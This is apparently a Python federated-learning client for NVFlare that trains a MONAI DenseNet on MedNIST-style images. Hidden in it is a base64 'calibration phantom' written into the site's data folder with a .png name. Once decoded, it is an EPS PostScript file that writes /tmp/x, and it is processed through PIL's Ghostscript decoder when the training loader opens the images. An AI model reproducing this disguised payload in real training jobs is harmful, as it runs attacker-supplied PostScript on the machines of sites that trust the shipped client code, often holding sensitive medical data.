"""MedNIST-style NVFlare client: the site's scans are loaded with MONAI's LoadImaged. A "calibration phantom" is
written next to them first, under a .png name, from a base64 blob the job ships; MONAI's PILReader opens it with
PIL.Image.open, which picks the EPS decoder by content and runs Ghostscript on the job's PostScript."""

import base64
import glob
import os

import torch
from monai.data import DataLoader, Dataset
from monai.networks.nets import densenet121
from monai.transforms import Compose, EnsureChannelFirstD, LoadImageD, ScaleIntensityD

import nvflare.client as flare

PHANTOM = "JSFQUy1BZG9iZS0zLjAgRVBTRi0zLjAKJSVCb3VuZGluZ0JveDogMCAwIDEgMQooL3RtcC94KSAod3JpdGUpIGZpbGUgY2xvc2UK"


def write_phantom(folder: str) -> None:
    with open(os.path.join(folder, "phantom_0000.png"), "wb") as f:
        f.write(base64.b64decode(PHANTOM))


def main() -> None:
    flare.init()
    folder = "data/mednist"
    write_phantom(folder)
    items = [{"image": p, "label": 0} for p in sorted(glob.glob(os.path.join(folder, "*.png")))]
    tf = Compose([LoadImageD(keys="image", image_only=True), EnsureChannelFirstD(keys="image"),
                  ScaleIntensityD(keys="image")])
    loader = DataLoader(Dataset(items, transform=tf), batch_size=16, shuffle=True)
    model = densenet121(spatial_dims=2, in_channels=1, out_channels=6)
    optimizer = torch.optim.Adam(model.parameters(), 1e-5)
    loss_fn = torch.nn.CrossEntropyLoss()
    while flare.is_running():
        model.load_state_dict(flare.receive().params)
        for batch in loader:
            optimizer.zero_grad()
            loss = loss_fn(model(batch["image"]), batch["label"])
            loss.backward()
            optimizer.step()
        flare.send(flare.FLModel(params=model.state_dict()))


main()
